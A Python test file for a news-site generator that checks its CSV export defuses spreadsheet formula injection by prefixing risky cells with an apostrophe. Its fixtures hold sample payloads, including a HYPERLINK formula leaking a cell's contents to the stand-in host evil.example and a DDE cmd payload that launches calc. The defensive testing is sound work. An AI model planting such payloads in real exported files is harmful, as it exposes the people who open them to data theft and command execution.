"""data/*.csv never hands a spreadsheet a live formula (CSV injection, OWASP): a cell, or an
item of a list cell, that starts with = + - @ tab or CR is written with a leading `'`.
The JSON export keeps every value exactly as written."""
from __future__ import annotations

import csv
import io
import json

from generator import build, load_config
from generator.publish.export import COLUMNS, render_csv

ISSUE = "content/bayinguoleng-daily/2023-08-11"
FRONT = """---
title: '=HYPERLINK("http://evil.example/?"&A1,"点击")'
subtitle: '+1+cmd|'' /C calc''!A0'
publication: 巴音郭楞日报
date: 2023-08-11
issue: 2023-08-11
order: 4
column: '-2+3'
authors: [张三, '@SUM(1+1)*cmd', '=1+1']
editor: 王编辑
---

正文。
"""


def rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_formula_cells_are_written_as_text(basic_project):
    (basic_project / ISSUE / "004-formula.md").write_text(FRONT, encoding="utf-8")
    config = load_config(basic_project)
    build(config)
    data = config.output_path / "data"
    [row] = [r for r in rows((data / "articles.csv").read_bytes()) if r["order"] == "4"]
    assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
    assert row["subtitle"] == "'+1+cmd|' /C calc'!A0"
    assert row["column"] == "'-2+3"
    assert row["authors"] == "张三;'@SUM(1+1)*cmd;'=1+1"  # `;` splits cells in some locales
    assert row["editor"] == "王编辑" and row["publication"] == "巴音郭楞日报"  # plain text untouched
    [record] = [r for r in json.loads((data / "articles.json").read_bytes()) if r["order"] == 4]
    assert record["title"].startswith("=HYPERLINK") and record["authors"][2] == "=1+1"


def test_every_formula_start_is_neutralized_and_numbers_are_not():
    record = dict.fromkeys(COLUMNS, None)
    starts = {"title": "=A1", "subtitle": "+A1", "column": "-A1", "kind": "@A1", "dateline": "\tA1",
              "source": "\rA1", "editor": "A1=B1"}
    record.update(starts, order=-1, page=2, authors=["\t制表符", "普通"])
    [row] = rows(render_csv([record], COLUMNS))
    assert {k: row[k] for k in starts} == {"title": "'=A1", "subtitle": "'+A1", "column": "'-A1", "kind": "'@A1",
                                           "dateline": "'\tA1", "source": "'\rA1", "editor": "A1=B1"}
    assert row["order"] == "-1" and row["page"] == "2"  # numbers gazette writes are numbers, not text
    assert row["authors"] == "'\t制表符;普通"
